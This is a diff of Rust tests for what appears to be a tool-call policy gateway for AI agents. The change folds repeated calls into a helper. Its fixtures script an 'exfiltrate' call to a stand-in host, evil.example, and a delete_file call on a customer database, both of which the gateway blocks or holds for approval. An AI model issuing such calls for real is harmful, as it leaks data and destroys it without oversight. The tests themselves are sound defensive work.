@@ -172,6 +172,11 @@ file = "{}"
         self.post("/v1/chat/completions", key, &body, headers).await
     }
 
+    /// The agent's model emits `calls` (a `CALLS` script); every tool offered.
+    async fn calls(&self, calls: Value) -> (u16, Value) {
+        self.chat(script(calls), offered(&ALL)).await
+    }
+
     async fn verifier(&self) -> CapabilityVerifier {
         let key: Value = self
             .http
@@ -239,13 +244,10 @@ const ALL: [&str; 4] = ["search_docs", "send_email", "delete_file", "exfiltrate"
 async fn disallowed_offers_are_removed_and_disallowed_calls_withheld() {
     let h = Harness::new("").await;
     let (status, body) = h
-        .chat(
-            script(json!([
-                {"name": "search_docs", "arguments": {"q": "quarterly report"}},
-                {"name": "exfiltrate", "arguments": {"url": "http://evil.example"}}
-            ])),
-            offered(&ALL),
-        )
+        .calls(json!([
+            {"name": "search_docs", "arguments": {"q": "quarterly report"}},
+            {"name": "exfiltrate", "arguments": {"url": "http://evil.example"}}
+        ]))
         .await;
     assert_eq!(status, 200, "{body}");
     // The upstream never saw the tool the policy does not allow.
@@ -297,14 +299,11 @@ async fn disallowed_offers_are_removed_and_disallowed_calls_withheld() {
 async fn bad_arguments_are_withheld_with_a_reason() {
     let h = Harness::new("").await;
     let (status, body) = h
-        .chat(
-            script(json!([
-                {"name": "search_docs", "arguments": {"q": "x", "extra": true}},
-                {"name": "send_email", "arguments": "{\"to\": \"bob@example.com\", \"body\": "},
-                {"name": "send_email", "arguments": {"to": "bob@example.com"}}
-            ])),
-            offered(&ALL),
-        )
+        .calls(json!([
+            {"name": "search_docs", "arguments": {"q": "x", "extra": true}},
+            {"name": "send_email", "arguments": "{\"to\": \"bob@example.com\", \"body\": "},
+            {"name": "send_email", "arguments": {"to": "bob@example.com"}}
+        ]))
         .await;
     assert_eq!(status, 200);
     let s = statuses(&body);
@@ -329,10 +328,7 @@ async fn an_irreversible_call_waits_for_an_approver() {
     let h = Harness::new("").await;
     let args = json!({"path": "/srv/data/customers.db"});
     let (_, body) = h
-        .chat(
-            script(json!([{"name": "delete_file", "arguments": args}])),
-            offered(&ALL),
-        )
+        .calls(json!([{"name": "delete_file", "arguments": args}]))
         .await;
     let entry = &report(&body)[0];
     assert_eq!(entry["status"], "pending_confirmation");
@@ -412,10 +408,7 @@ async fn capability_tokens_cover_exactly_one_call_and_expire() {
     let h = Harness::new("[tools]\ntoken_ttl_secs = 2").await;
     let args = json!({"to": "bob@example.com", "body": "the report"});
     let (_, body) = h
-        .chat(
-            script(json!([{"name": "send_email", "arguments": args}])),
-            offered(&ALL),
-        )
+        .calls(json!([{"name": "send_email", "arguments": args}]))
         .await;
     let entry = &report(&body)[0];
     assert_eq!(entry["status"], "released", "{body}");
@@ -727,13 +720,10 @@ async fn tool_decisions_and_confirmations_are_audited_without_arguments() {
     let db = dir.path().join("audit.db");
     let h = Harness::new(&format!("audit_url = \"sqlite:{}\"", db.display())).await;
     let (_, body) = h
-        .chat(
-            script(json!([
-                {"name": "exfiltrate", "arguments": {"secret_arg": "hunter2-value"}},
-                {"name": "delete_file", "arguments": {"path": "/srv/secret-path"}}
-            ])),
-            offered(&ALL),
-        )
+        .calls(json!([
+            {"name": "exfiltrate", "arguments": {"secret_arg": "hunter2-value"}},
+            {"name": "delete_file", "arguments": {"path": "/srv/secret-path"}}
+        ]))
         .await;
     let id = report(&body)[1]["confirmation_id"]
         .as_str()
